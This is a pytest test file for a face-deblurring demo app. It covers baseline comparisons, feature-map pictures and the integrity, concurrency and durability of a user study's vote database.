    assert [Path(p).name for p, _ in gallery] == ["x_blurry.png", "x_smfd.png", "x_smfd-given-mask.png",
                                                  "x_sharpen.png", "x_masked.png"]
    assert np.array_equal(read_image(gallery[0][0]), f.blurry)
    # the registry's own 'blurry' and 'smfd' entries are the app's first rows, not repeated
    assert [r[0] for r in rows] == titles
    psnr = {r[0]: r[1] for r in rows}
    assert psnr["SMFD (given: ground-truth mask)"] > psnr["blurry input"]  # 123 vs 100 against 120
    assert ctx.baselines.loaded["masked"].masks[0] is truth and ctx.baselines.loaded["sharpen"].masks == [None]
    assert ("Gone-GAN**: its weights are not on this server; whoever runs the app can fetch them with "
            "'smfd baselines download gone' (no restart needed)") in missing
    assert "Broken**: failed (RuntimeError: no such layer)" in missing
    assert ("Rotten-GAN**: its weights file on this server is damaged; whoever runs the app can fetch it "
            "again with 'smfd baselines download rotten --force'") in missing and "/srv" not in missing
    assert note == ""
    terms = {r[0]: (r[4], r[5]) for r in rows}  # the registry's terms, SMFD's too (its weights are not for sale)
    assert terms["SMFD (generated mask)"] == terms["SMFD (given: ground-truth mask)"] == (
        "MIT (code)", "no (non-commercial licence or weights)")
    assert terms["Sharpen"] == ("BSD", "yes")
    assert all(r[3] < 0.4 for r in rows if r[0] in ("Sharpen", "Masked"))  # loading is not timed


def test_compare_without_truth_or_registry(tmp_path):
    ctx = make_context(tmp_path)
    f = face.Face("x", np.full((32, 32, 3), 100, np.uint8))
    gallery, rows, missing, note = compare_tab.compare(ctx, f, progress=lambda *a, **k: None)
    assert [t for _, t in gallery] == ["blurry input", "SMFD (generated mask)"]
    assert all(r[1] is None for r in rows) and "no PSNR/SSIM" in note
    assert "SMFD (given mask)**: no given mask" in missing and "without the baselines registry" in missing
    with pytest.raises(gr.Error, match="Restore tab first"):
        compare_tab.compare(ctx, None, progress=lambda *a, **k: None)


def test_compare_clears_another_face_s_results_and_refuses_a_whole_photo(tmp_path):
    """Results stay only under the face they belong to; a photo restored whole is not one face."""
    ctx = make_context(tmp_path)
    a = face.Face("a", np.full((32, 32, 3), 100, np.uint8))
    b = face.Face("b", np.full((32, 32, 3), 90, np.uint8))
    header, *shown, compared = compare_tab.compare_and_remember(ctx, a, progress=lambda *args, **k: None)
    # the results come with the header of their face: another loaded meanwhile is not named above them
    assert "**a**" in header and len(shown[0]) == 2 and compared == compare_tab.fingerprint(a)
    header, *outputs = compare_tab.on_select(a, compared)
    assert "**a**" in header and all(o == gr.update() for o in outputs)  # kept
    header, *outputs = compare_tab.on_select(b, compared)
    assert "**b**" in header and outputs == [[], None, "", ""]  # a's results are not shown under b
    # ... nor under a once its sharp face is known: the table would lack the PSNR it can now have
    header, *outputs = compare_tab.on_select(a.with_sharp(np.full((32, 32, 3), 99, np.uint8)), compared)
    assert "sharp face known" in header and outputs == [[], None, "", ""]
    photo = a.replace(restored=a.blurry, note="2 faces found, 2 restored")  # as Restore's whole-photo mode
    assert photo.whole_photo and not a.whole_photo
    for run in (lambda: compare_tab.compare(ctx, photo, progress=lambda *args, **k: None),
                lambda: learn_tab.feature_maps(ctx, photo, "channel mean", progress=lambda *args, **k: None)):
        with pytest.raises(gr.Error, match="was restored as a whole photo"):
            run()


def test_learn_shows_the_pass_a_restoration_makes(tmp_path):
    """A soft-mask SMFD-UNet gets the generator's probabilities in a restoration, so its feature
    maps are drawn from them too (they were drawn from the argmax's one-hot)."""
    from smfd.models import SMFDConfig
    from smfd.restorer import Restorer, save_random_weights

    restorer = Restorer.from_pretrained(save_random_weights(tmp_path / "w", deblur_config=SMFDConfig(soft_mask=True)),
                                        "cpu", engine="pytorch")
    image = examples.blurred(examples.astronaut_face(), 0, "astronaut")[0]
    shown = dict(features.smfd_maps(restorer, image))["input mask"]
    np.testing.assert_allclose(shown, restorer.mask_probabilities(image).transpose(2, 0, 1), atol=1e-6)
    ctx = make_context(tmp_path, restorer=restorer)
    generated = face.Face("x", image).replace(restored=image, mask=restorer.mask(image), mask_source="generated")
    header, _, maps = learn_tab.feature_maps(ctx, generated, "channel mean", progress=lambda *args, **k: None)
    assert header == "Feature maps of **x**, with the generated mask." and len(maps) == 21


# ---------------------------------------------------------------- feature maps (Learn)

def test_feature_maps_of_both_networks(random_weights):
    from smfd.restorer import Restorer

    restorer = Restorer.from_pretrained(random_weights, "cpu")
    image = examples.blurred(examples.astronaut_face(), 0, "astronaut")[0]
    mask_maps = features.mask_generator_maps(restorer, image)
    names = [n for n, _ in mask_maps]
    assert names[0] == "input (grayscale)" and names[-2:] == ["output head", "network output"]
    assert len(names) == 15
    shapes = dict(mask_maps)
    assert shapes["encoder level 1"].shape == (32, 128, 128)  # the mask net looks at half size
    assert shapes["output head"].shape == (5, 128, 128) and shapes["network output"].shape == (5, 256, 256)
    stripes = np.tile(np.array([0, 4], np.uint8), (512, 256))  # a label map is resized without mixing labels
    smfd_maps = features.smfd_maps(restorer, image, stripes)
    assert len(smfd_maps) == 21 and dict(smfd_maps)["network output"].shape == (3, 256, 256)
    assert np.array_equal(dict(smfd_maps)["input mask"].argmax(0), resize_labels(stripes, (256, 256)))
    assert dict(smfd_maps)["mask encoder level 4"].shape == (128, 32, 32)
    # hooks went on copies: the shared networks carry none afterwards
    assert not any(m._forward_hooks for m in restorer.deblur_model.modules())
    items = features.gallery(smfd_maps, "channel mean")
    assert len(items) == 21 and all(img.dtype == np.uint8 and min(img.shape[:2]) >= 128 for img, _ in items)
    captions = [c for _, c in items]
    assert "input image: 3 ch, 256x256, RGB" in captions
    assert "input mask: 5 ch, 256x256, argmax of 5" in captions
    assert any(c.startswith("image encoder level 2: 64 ch, 128x128, channel mean") for c in captions)


def test_feature_map_pictures_follow_the_thesis_rules():
    rgb = np.zeros((3, 4, 4), np.float32)
    rgb[0] = 1.0
    picture, how = features.picture(rgb, "first channel")
    assert how == "RGB" and (picture[..., 0] == 255).all() and (picture[..., 1:] == 0).all()
    assert features.picture(rgb - 0.5, "first channel")[1] == "RGB, scaled"
    five = np.zeros((5, 4, 4), np.float32)
    five[3] = 1
    picture, how = features.picture(five, "first channel")
    assert how == "argmax of 5" and (picture == labels.GROUP_PALETTE[3]).all()
    many = np.zeros((8, 4, 4), np.float32)
    many[0, :2] = 1  # first channel: top half bright, bottom dark
    many[1, 3] = 0.5  # second: the bottom row; the mean shows it between the top and row 2
    first, how = features.picture(many, "first channel")
    assert how == "channel 1" and (first[0] != first[-1]).any()
    mean, how = features.picture(many, "channel mean")
    assert how == "channel mean" and (mean[0] != mean[-1]).any() and (mean[-1] != first[-1]).any()


# ---------------------------------------------------------------- the study: dealing and restorations

def fake_study(tmp_path, methods, n_images=6, url=None) -> Study:
    folder = tmp_path / "photos"
    folder.mkdir(exist_ok=True)
    for i in range(n_images):
        Image.fromarray(np.full((16, 16, 3), i * 10, np.uint8)).save(folder / f"p{i}.png")
    calls = []

    def restore(method, image):
        calls.append(method)
        return np.clip(image.astype(int) + len(method), 0, 255).astype(np.uint8)

    store = VoteStore(url or f"sqlite:///{tmp_path / 'votes.sqlite'}")
    study = Study(study_photos(folder), methods, store, tmp_path / "cache", restore, tmp_path / "served")
    study.calls = calls
    return study


def test_dealing_is_random_balanced_and_not_computable_from_the_id():
    images = [f"p{i}.png" for i in range(9)]
    pairs = [("smfd", "gfpgan"), ("smfd", "codeformer"), ("gfpgan", "codeformer")]
    trials = deal("a" * 32, images, pairs)
    assert sorted(t.image for t in trials) == images and [t.index for t in trials] == list(range(9))
    seen = collections.Counter(frozenset((t.left, t.right)) for t in trials)
    assert set(seen.values()) == {3}  # each pair equally often
    # The same id dealt again gets another order and other sides: nothing follows from the id.
    again = [deal("a" * 32, images, pairs) for _ in range(20)]
    assert len({tuple((t.image, t.left) for t in d) for d in again}) == 20
    # Sides are fair coins: 600 tosses land within 0.4-0.6 but once in about a million runs (5 SD).
    lefts = [t.left for _ in range(200) for t in deal("a" * 32, images, pairs) if {t.left, t.right} == {"smfd", "gfpgan"}]
    assert 0.4 < lefts.count("smfd") / len(lefts) < 0.6


def test_study_adds_the_input_as_control_and_serves_restorations_under_random_names(tmp_path):
    study = fake_study(tmp_path, ["smfd"], n_images=2)
    assert study.methods == ["smfd", CONTROL] and study.pairs == [("smfd", CONTROL)]
    with pytest.raises(NotReady, match="0 of 4 restorations ready"):
        study.served("p0.png", "smfd")
    first = study.restoration(study.images[0], "smfd")
    assert study.precompute() == 3 and study.ready.is_set()  # the other three (photo, method) pairs
    assert study.calls.count("smfd") == 2  # one per photo, then cached
    served = [study.served(p.name, m) for p in study.images for m in study.methods]
    assert all(path.parent == tmp_path / "served" for path in served)
    assert not any(m in path.name for path in served for m in study.methods)  # names tell nothing
    assert len({path.name for path in served}) == 4
    assert (read_image(served[0]) == read_image(first)).all()
    restarted = fake_study(tmp_path, ["smfd"], n_images=2)  # a restart reuses the cache
    assert restarted.precompute() == 0 and restarted.calls == []


def test_a_study_that_cannot_be_prepared_says_so(tmp_path):
    """A photo too small to restore stops the start with its name; a method that fails while
    the restorations are prepared is what Start reports, not "still being prepared" for ever."""
    from app.study_tab import start

    tiny = tmp_path / "tiny"
    tiny.mkdir()
    Image.new("RGB", (4, 4)).save(tiny / "dot.png")
    with pytest.raises(InputError, match="dot.png: image is too small"):
        study_photos(tiny)
    study = fake_study(tmp_path, ["smfd", "broken"], n_images=2)

    def restore(method, image):
        if method == "broken":
            raise RuntimeError("out of memory")
        return image

    study._restore = restore
    with pytest.raises(RuntimeError):
        study.precompute()
    assert not study.ready.is_set() and study.failure == "broken on p0.png failed (RuntimeError: out of memory)"
    ctx = make_context(tmp_path, study=study)
    with pytest.raises(gr.Error, match="The study cannot open: preparing its restorations failed") as refused:
        start(ctx, None)
    assert "broken" not in str(refused.value) and "memory" not in str(refused.value)  # details: the log only


# ---------------------------------------------------------------- vote storage: integrity

def test_a_database_keeps_the_votes_of_one_study_setup(study_db, tmp_path):
    """Votes on other restorations (weights, photos or methods) are never pooled: a database is
    claimed by its first setup and refused to any other; the default file is one per setup."""
    photos = []
    for i in range(2):
        photos.append(tmp_path / f"p{i}.png")
        Image.fromarray(np.full((16, 16, 3), i, np.uint8)).save(photos[-1])
    setup = setup_of(photos, ["smfd", "input"], "weights-a")
    store = VoteStore(study_db)
    store.bind(*setup)
    VoteStore(study_db).bind(*setup)  # a restart, or a second replica, of the same study
    changed = {"weights": setup_of(photos, ["smfd", "input"], "weights-b"),
               "methods": setup_of(photos, ["smfd", "gfpgan-1.4"], "weights-a")}
    Image.fromarray(np.full((16, 16, 3), 9, np.uint8)).save(photos[0])  # same name, other picture
    changed["photo"] = setup_of(photos, ["smfd", "input"], "weights-a")
    for what, other in changed.items():
        assert other[0] != setup[0] and other[1] != setup[1], what  # the refusal tells the two apart
        with pytest.raises(InputError, match=r"holds the votes of another study \(weights weights-a; "
                                             r"methods input, smfd; 2 photos, content [0-9a-f]{8}\); this one "
                                             f"is {re.escape(other[1])}\\."):
            VoteStore(study_db).bind(*other)
    assert len({default_url(fingerprint) for fingerprint, _ in [setup, *changed.values()]}) == 4
    # A database with participants from before setups were recorded is not adopted either.
    older = VoteStore(f"sqlite:///{tmp_path / 'older.sqlite'}")
    older.new_participant(["p0.png"], [("smfd", "input")])
    with pytest.raises(InputError, match="participants from before studies were recorded"):
        older.bind(*setup)


def test_votes_are_checked_against_the_dealt_trials(study_db):
    store = VoteStore(study_db)
    alice = store.new_participant(["a.png", "b.png", "c.png"], [("smfd", "gfpgan")])
    bob = store.new_participant(["a.png", "b.png", "c.png"], [("smfd", "gfpgan")])
    assert valid_id(alice) and alice != bob and store.known(alice) and store.next_index(alice) == 0
    assert not store.known("0" * 32) and not store.known("x" * 1_000_000) and not store.known(None)
    assert store.vote(alice, 1, "left", 10, "s1").status == "out-of-order"  # trial 0 comes first
    assert store.vote(alice, 3, "left", 10, "s1").status == "forged"  # never dealt
    assert store.vote("f" * 32, 0, "left", 10, "s1").status == "forged"  # an invented participant
    assert store.vote("f" * 10_000, 0, "left", 10, "s1").status == "forged"
    stored = store.vote(alice, 0, "right", 10, "s1")
    assert stored.stored and stored.next_index == 1
    assert store.vote(alice, 0, "right", 10, "s1").status == "duplicate"  # double submit
    assert store.vote(alice, 0, "left", 10, "s2").status == "replayed"  # from another session
    rows = store.rows()
    assert len(rows) == 1 and rows[0]["participant"] == alice and rows[0]["side"] == "right"
    dealt = store.trial(alice, 0)
    assert (rows[0]["left"], rows[0]["right"], rows[0]["chosen"]) == (dealt.left, dealt.right, dealt.right)
    assert store.refusals() == {"forged": 3, "out-of-order": 1, "duplicate": 1, "replayed": 1, "unknown-id": 0,
                                "admin-token": 0, "rate-limited": 0, "too-many-ids": 0}
    with pytest.raises(ValueError, match="side"):
        store.vote(bob, 0, "middle", 10)
    with pytest.raises(ValueError, match="at most 64 characters"):
        store.new_participant(["a.png", "b.png"], [("smfd", "m" * 65)])


def test_every_stored_field_is_bounded_by_the_database_itself(study_db):
    store = VoteStore(study_db)
    good = dict(participant="a" * 32, trial=0, image="x.png", left="smfd", right="input")
    for column, value in (("participant", "a" * 33), ("image", "i" * 256), ("left", "m" * 65),
                          ("right", "m" * 65)):
        with pytest.raises((IntegrityError, DataError)):  # SQLite: CHECK; PostgreSQL: VARCHAR(n)
            with store.engine.begin() as conn:
                conn.execute(insert(trials_table).values(**{**good, column: value}))
    with store.engine.begin() as conn:
        conn.execute(insert(trials_table).values(**good))  # at the limits it fits


def test_a_concurrent_vote_for_the_same_trial_is_stored_once(study_db):
    store = VoteStore(study_db)
    participant = store.new_participant(["a.png"], [("smfd", "input")])
    barrier = threading.Barrier(6)
    outcomes = []

    def click(k):
        barrier.wait()
        outcomes.append(store.vote(participant, 0, "left" if k % 2 else "right", 5, f"s{k}").status)

    workers = [threading.Thread(target=click, args=(k,)) for k in range(6)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    assert outcomes.count("stored") == 1 and len(outcomes) == 6
    assert len(store.rows()) == 1


# ---------------------------------------------------------------- vote storage: replicas and kill -9

IMAGES = [f"p{i}.png" for i in range(8)]
PAIRS = [("smfd", "gfpgan"), ("smfd", "input")]


def _replica(url: str, acks: str, participants: list[str]) -> None:
    """One app replica voting for several participants at once; after each acknowledged vote it
    appends 'participant trial side' to ``acks`` (a write that survives SIGKILL)."""
    store = VoteStore(url)
    fd = os.open(acks, os.O_WRONLY | os.O_APPEND | os.O_CREAT)

    def participant(pid: str) -> None:
        while (index := store.next_index(pid)) is not None:
            side = "left" if (index + len(pid)) % 2 else "right"
            if store.vote(pid, index, side, 100, pid[:16]).stored:
                os.write(fd, f"{pid} {index} {side}\n".encode())

    workers = [threading.Thread(target=participant, args=(p,)) for p in participants]
    for w in workers:
        w.start()
    for w in workers:
        w.join()


def test_no_acknowledged_vote_is_lost_when_replicas_are_killed_and_restarted(study_db, tmp_path):
    setup = VoteStore(study_db)
    people = [[setup.new_participant(IMAGES, PAIRS) for _ in range(4)] for _ in range(3)]
    ctx = multiprocessing.get_context("fork")
    acks = [tmp_path / f"acks{r}.txt" for r in range(3)]

    def run_replicas():
        procs = [ctx.Process(target=_replica, args=(study_db, str(acks[r]), people[r])) for r in range(3)]
        for p in procs:
            p.start()
        return procs

    procs = run_replicas()
    deadline = time.time() + 60
    while sum(len(a.read_text().splitlines()) for a in acks if a.exists()) < 20 and time.time() < deadline:
        time.sleep(0.02)
    for p in procs:
        os.kill(p.pid, signal.SIGKILL)  # mid-run: no clean-up code runs
        p.join()
    acknowledged = {tuple(line.split()) for a in acks if a.exists() for line in a.read_text().splitlines()}
    restarted = VoteStore(study_db)
    stored = {(r["participant"], str(r["trial"]), r["side"]) for r in restarted.rows()}
    assert 20 <= len(acknowledged) and acknowledged <= stored  # nothing acknowledged was lost
    assert len(stored) < 3 * 4 * len(IMAGES)  # ... and the kill did land mid-run

    for p in run_replicas():  # the restarted replicas finish every sequence
        p.join(timeout=120)
        assert p.exitcode == 0
    rows = restarted.rows()
    assert len(rows) == 3 * 4 * len(IMAGES)
    assert len({(r["participant"], r["trial"]) for r in rows}) == len(rows)  # none twice
    assert len({r["instance"] for r in rows}) >= 3  # several replicas wrote
    for r in rows:
        dealt = restarted.trial(r["participant"], r["trial"])
        assert (r["left"], r["right"], r["chosen"]) == (dealt.left, dealt.right, getattr(dealt, r["side"]))
    if study_db.startswith("sqlite"):
        with restarted.engine.connect() as conn:
            assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert stat.S_IMODE(os.stat(restarted.url.database).st_mode) == 0o600
    with pytest.raises(InputError, match="not a database URL"):
        VoteStore("votes.sqlite")


def test_a_database_url_of_an_unknown_kind_is_named_in_one_line():
    with pytest.raises(InputError, match=r"^garbage://x: not a kind of database SQLAlchemy knows \(garbage\)"):
        VoteStore("garbage://x")
    for memory in ("sqlite://", "sqlite:///:memory:"):  # every vote lost; the app's threads see none
        with pytest.raises(InputError, match=f"^{memory}: an in-memory database, which loses every vote"):
            VoteStore(memory)


def test_a_sqlite_path_that_is_no_database_is_named_in_one_line(tmp_path):
    """A file that is not a database, a folder, or a path under a file: one line naming it, at once
    (no 20 s of retries), and the file is left as it was."""
    notes = tmp_path / "notes.txt"
    notes.write_text("not a database " * 100)
    for path, says in ((notes, f"sqlite:///{notes}: not a usable study database (file is not a database)"),
                       (tmp_path, f"sqlite:///{tmp_path}: {tmp_path} is a folder, not a database file"),
                       (notes / "votes.sqlite", f"{notes}: the study database's folder is a file, not a folder")):
        started = time.monotonic()
        with pytest.raises(InputError) as caught:
            VoteStore(f"sqlite:///{path}", retry_seconds=20)
        assert str(caught.value) == says and time.monotonic() - started < 5
    assert notes.read_text() == "not a database " * 100


def test_a_database_that_cannot_be_written_is_named_at_start(tmp_path, monkeypatch):
    """A study database that opens but cannot be written (a read-only file) is named when the app
    starts, at once, not by every participant's Start after 20 s of retries."""
    import app.study_store

    url = f"sqlite:///{tmp_path / 'votes.sqlite'}"
    VoteStore(url)  # the tables are there: opening it only reads
    pragmas = app.study_store._sqlite_pragmas

    def read_only(conn, record):
        pragmas(conn, record)
        conn.execute("PRAGMA query_only = ON")  # as SQLite answers for a file it cannot write

    monkeypatch.setattr(app.study_store, "_sqlite_pragmas", read_only)
    started = time.monotonic()
    with pytest.raises(InputError, match=r"not a usable study database \(attempt to write a readonly database\)"):
        VoteStore(url, retry_seconds=20)
    assert time.monotonic() - started < 5


def test_empty_options_and_unusable_defaults_of_the_app_are_named(tmp_path, monkeypatch, capsys):
    """An unset shell variable is no option left out; the study's default photos and its cache
    are named as such when they cannot be used, before the models load."""
    from app import main as app_main

    monkeypatch.setattr(app_main.Restorer, "from_pretrained", lambda *a, **k: pytest.fail("the models loaded"))
    for option, kwargs in (("--study-images", {"study_images": ""}), ("--study-db", {"study_db": " "}),
                           ("--examples", {"examples": ""})):
        with pytest.raises(InputError, match=f"^{option} is empty"):
            app_main.create_context(**kwargs)
    with pytest.raises(InputError, match="^--admin-token-file is empty"):
        admin_token(None, "")
    bad = tmp_path / "photos"
    bad.mkdir()
    (bad / "a.png").write_text("not a photo")
    monkeypatch.setattr(app_main, "default_study_images", lambda: bad)
    with pytest.raises(InputError, match=rf"^the user study's default photos \({bad}\): .*give --study-images DIR"):
        app_main.create_context()
    write_png(bad / "a.png", np.zeros((64, 64, 3), np.uint8))
    monkeypatch.setenv("SMFD_CACHE", str(bad / "a.png"))  # a file where the cache should be
    with pytest.raises(InputError, match=r"the user study's cache \(\$SMFD_CACHE\)"):
        app_main.create_context()
    (tmp_path / "token").write_text("shared-token")
    os.chmod(tmp_path / "token", 0o620)  # others may not read it: no warning
    assert admin_token(None, tmp_path / "token") == ("shared-token", True)
    assert "can be read" not in capsys.readouterr().err
    os.chmod(tmp_path / "token", 0o644)
    assert admin_token(None, tmp_path / "token") == ("shared-token", True)
    assert "can be read by other users of this machine: chmod 600 it" in capsys.readouterr().err


def test_a_port_held_by_another_server_or_a_bad_host_is_named_before_the_models_load(monkeypatch, capsys):
    """smfd demo on a port another server listens on, or a host that is no address: one line
    naming the option, exit status 2, before create_context loads anything."""
    import socket

    from smfd.cli import main

    monkeypatch.setattr("app.main.create_context", lambda *a, **k: pytest.fail("the app loaded its models"))
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        assert main(["demo", "--port", str(port), "--admin-token", "x" * 32]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and f"--port {port}: cannot listen there" in err, err
    assert main(["demo", "--host", "999.1.1.1", "--admin-token", "x" * 32]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and err.startswith("smfd: error: --host 999.1.1.1: not a host name"), err
    from app.main import check_can_listen

    for host in ("127.0.0.1", "0.0.0.0", "", "localhost"):  # as Gradio takes them ("" is 127.0.0.1)
        check_can_listen(host, 0)


def test_an_unreachable_database_at_start_up_is_named_in_one_line():
    with pytest.raises(InputError, match=r"^postgresql://study:\*\*\*@127.0.0.1:1/votes: the study "
                                         r"database is unreachable \(OperationalError: .*Connection refused.*\)$"):
        VoteStore("postgresql://study:secret@127.0.0.1:1/votes", retry_seconds=0.3)


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_replicas_starting_together_on_a_new_database_all_open_it(backend, request, tmp_path):
    """Three stores at once on an empty database (README's replicas' first start): on PostgreSQL
    the losers of the race to CREATE the tables failed ("not a usable study database")."""
    for round_ in range(3):  # a race: three rounds, a fresh database each
        url = (f"sqlite:///{tmp_path / f'{round_}.sqlite'}" if backend == "sqlite"
               else request.getfixturevalue("postgres").new_database())
        start, opened, failed = threading.Barrier(3), [], []

        def replica():
            start.wait()
            try:
                opened.append(VoteStore(url, retry_seconds=5))
            except InputError as exc:
                failed.append(str(exc))

        threads = [threading.Thread(target=replica) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not failed and len(opened) == 3, failed
        participant = opened[0].new_participant(IMAGES, PAIRS)
        assert all(store.known(participant) for store in opened)


def test_two_sessions_racing_on_one_trial_count_a_replay(study_db):
    """Two replicas store the same trial from two tabs at once: one vote is kept, and the other is
    counted as replayed (another session), as when it comes a moment later; it was "duplicate",
    which the admin view describes as the same browser session."""
    one, two = VoteStore(study_db), VoteStore(study_db)
    kept = collections.Counter()
    for _ in range(8):
        participant = one.new_participant(IMAGES, PAIRS)
        start, results = threading.Barrier(2), []

        def vote(store, session):
            start.wait()
            results.append(store.vote(participant, 0, "left", 5, session).status)

        threads = [threading.Thread(target=vote, args=args) for args in ((one, "tab-one"), (two, "tab-two"))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        kept.update(results)
    two.refusals()  # each replica writes its own counts
    counts = one.refusals()
    assert kept == {"stored": 8, "replayed": 8} and counts["replayed"] == 8 and counts["duplicate"] == 0, (kept, counts)


def test_a_vote_waits_for_a_restarting_database_and_is_kept(postgres):
    url = postgres.new_database()
    store = VoteStore(url, retry_seconds=30)
    participant = store.new_participant(IMAGES, PAIRS)
    postgres.stop()
    try:
        outcome = []
        voter = threading.Thread(target=lambda: outcome.append(store.vote(participant, 0, "left", 50, "s")))
        voter.start()
        time.sleep(2)
        assert voter.is_alive() and not outcome  # retrying while the server is down
    finally:
        postgres.start()
    voter.join(timeout=40)
    assert outcome and outcome[0].stored
    assert [(r["participant"], r["trial"]) for r in VoteStore(url).rows()] == [(participant, 0)]


def test_a_flood_of_refused_calls_is_counted_without_a_database_write_each(tmp_path):
    """Refused calls (anyone can make them by the thousand) are added up in memory and written at
    most once a second: a write each held up the study's queue for everyone's votes."""
    from sqlalchemy import event

    from app.study_store import FLUSH_SECONDS

    url = f"sqlite:///{tmp_path / 'votes.sqlite'}"
    store = VoteStore(url)
    writes = []
    event.listen(store.engine, "before_cursor_execute",
                 lambda conn, cursor, statement, *rest: writes.append(statement) if "study_refusals" in statement else None)
    for _ in range(1000):
        store.refuse("forged")
    time.sleep(FLUSH_SECONDS + 1)
    assert VoteStore(url).refusals()["forged"] == 1000  # written, as another replica reads them
    assert 1 <= len(writes) <= 2


# ---------------------------------------------------------------- the study's events

class Request:
    """What the handlers read from gr.Request."""

    def __init__(self, session="tab-1", host="10.0.0.1"):
        self.session_hash, self.client = session, SimpleNamespace(host=host)


def study_context(tmp_path, url=None, token="s3cret", methods=("smfd", "gfpgan")) -> AppContext:
    study = fake_study(tmp_path, list(methods), n_images=3, url=url)
    study.precompute()
    return make_context(tmp_path, study=study, admin=AdminGate(token))


def test_study_events_deal_vote_and_refuse(tmp_path):
    ctx = study_context(tmp_path)
    pid, state, left, right, where, shown, *_ = study_tab.start(ctx, None, Request())
    assert valid_id(pid) and state["participant"] == pid and shown == "0" and "Photo 1 of 3" in where
    assert {Path(left).parent, Path(right).parent} == {tmp_path / "served"}
    # a vote is for the trial shown, with the sides the server dealt
    state2, *rest = study_tab.vote(ctx, "left", state, shown, Request())
    row = ctx.study.store.rows()[0]
    assert row["chosen"] == row["left"] == ctx.study.store.trial(pid, 0).left and rest[3] == "1"
    with pytest.raises(gr.Error, match="does not belong to the photo shown"):
        study_tab.vote(ctx, "left", state2, "2", Request())  # a later trial than this tab shows
    with pytest.raises(gr.Error, match="press Start first"):
        study_tab.vote(ctx, "left", None, "0", Request())  # no session: forged
    # a second tab of the same participant (replayed) is told and moved on, not counted twice
    study_tab.vote(ctx, "right", state, "0", Request("tab-2"))
    assert len(ctx.study.store.rows()) == 1
    # a returning participant continues; an invented id gets a fresh one
    again = study_tab.start(ctx, pid, Request())
    assert again[0] == pid and again[5] == "1"
    fresh = study_tab.start(ctx, "0" * 32, Request())
    assert fresh[0] != "0" * 32 and valid_id(fresh[0])
    # Start again in a tab that has started keeps its participant (the browser's id aside)
    assert study_tab.start(ctx, None, Request(), state2)[0] == pid
    assert len({r["participant"] for r in ctx.study.store.rows()}) == 1
    assert ctx.study.store.refusals() == {"forged": 1, "out-of-order": 1, "duplicate": 0, "replayed": 1,
                                          "unknown-id": 1, "admin-token": 0, "rate-limited": 0,
                                          "too-many-ids": 0}


def test_the_gate_lets_started_sessions_and_a_few_others_into_the_queue():
    from app.study_gate import NOT_STARTED_PER_ADDRESS, StudyGate

    refused = []
    gate = StudyGate(refused.append)
    gate.vote_fns = {5}
    gate.started("tab-a")

    def body(fn, session):
        return json.dumps({"fn_index": fn, "session_hash": session, "data": []}).encode()

    assert all(gate.admits(body(5, f"s{i}"), "10.0.0.1") for i in range(NOT_STARTED_PER_ADDRESS))
    assert not gate.admits(body(5, "one-more"), "10.0.0.1") and refused == ["forged"]
    assert gate.admits(body(5, "tab-a"), "10.0.0.1")  # a session that pressed Start, same address
    assert gate.admits(body(5, "elsewhere"), "10.0.0.2")  # another address has its own few
    assert gate.admits(body(7, "s99"), "10.0.0.1") and gate.admits(b"not json", "10.0.0.1")  # not a vote
    # malformed calls are Gradio's to answer, never a server error here
    for odd in (b'{"fn_index": [5], "session_hash": "x"}', b'{"fn_index": 5, "session_hash": ["x"]}',
                b"[" * 100_000, b'{"fn_index": 5, "data": []}'):
        assert gate.admits(odd, "10.0.0.1")
    assert refused == ["forged"]
    # a vote however Gradio reads it: function 5 as a string or a float, padded past 64 kB, after a
    # byte-order mark or in UTF-16 (json.loads takes both)
    for fn, padding, encode in (("5", "", str.encode), (5.0, "", str.encode), (5, " " * 100_000, str.encode),
                                (5, "", lambda t: ("\ufeff" + t).encode()), (5, "", lambda t: t.encode("utf-16"))):
        call = json.dumps({"fn_index": fn, "session_hash": "one-more", "data": []}) + padding
        assert not gate.admits(encode(call), "10.0.0.1")
    assert refused == ["forged"] * 6


def test_a_second_click_on_the_last_photo_is_a_duplicate(tmp_path):
    """The answer to the last vote lost (or a double submit): the click again is the duplicate it
    is, and the participant reads "Thank you", not "Press Start" (which begins a new participant)."""
    ctx = study_context(tmp_path)
    pid, state, *_, shown, _, _ = study_tab.start(ctx, None, Request())
    for _ in range(3):
        last, (state, *_, shown, _, _) = shown, study_tab.vote(ctx, "left", state, shown, Request())
    again = study_tab.vote(ctx, "left", state, last, Request())
    assert "Thank you" in again[3] and again[0]["participant"] == pid and len(ctx.study.store.rows()) == 3
    assert ctx.study.store.refusals()["duplicate"] == 1 and ctx.study.store.refusals()["out-of-order"] == 0


def test_a_stored_vote_is_reported_stored_whatever_happens_after_its_commit(tmp_path, monkeypatch):
    """The next trial is read in the vote's own transaction: a database lost right after the commit
    cannot make the page say "not saved" of a saved vote (whose honest retry would be a refusal)."""
    from app.study_store import StoreUnavailable

    ctx = study_context(tmp_path)
    pid, state, *_, shown, _, _ = study_tab.start(ctx, None, Request())

    def lost(*args):
        raise StoreUnavailable("the study database is unreachable (OperationalError)")

    monkeypatch.setattr(ctx.study.store, "next_index", lost)
    state, *_, where, shown, _, _ = study_tab.vote(ctx, "left", state, shown, Request())
    assert "Photo 2 of 3" in where and shown == "1" and len(ctx.study.store.rows()) == 1
    assert sum(ctx.study.store.refusals().values()) == 0


def test_start_after_a_finished_sequence_begins_a_new_participant(tmp_path):
    """At a computer shared by a class, the next person presses Start in the tab (or browser) of
    someone who has finished: a new participant, not "Thank you!" again."""
    ctx = study_context(tmp_path)
    pid, state, *_ = study_tab.start(ctx, None, Request())
    for trial in range(3):
        state, *_, where, shown, _, _ = study_tab.vote(ctx, "left", state, str(trial), Request())
    assert "Thank you!" in where and shown == ""
    for saved, tab, session in ((pid, "tab-1", state), (pid, "tab-2", None)):  # the same tab; the browser's id
        new, _, _, _, where, shown, *_ = study_tab.start(ctx, saved, Request(tab), session)
        assert new != pid and valid_id(new) and shown == "0" and "Photo 1 of 3" in where
    assert ctx.study.store.refusals()["unknown-id"] == 0


def test_one_address_gets_a_limited_number_of_new_participant_ids(tmp_path):
    ctx = study_context(tmp_path)
    ctx.study.newcomers = SlidingWindow(2, 60.0)
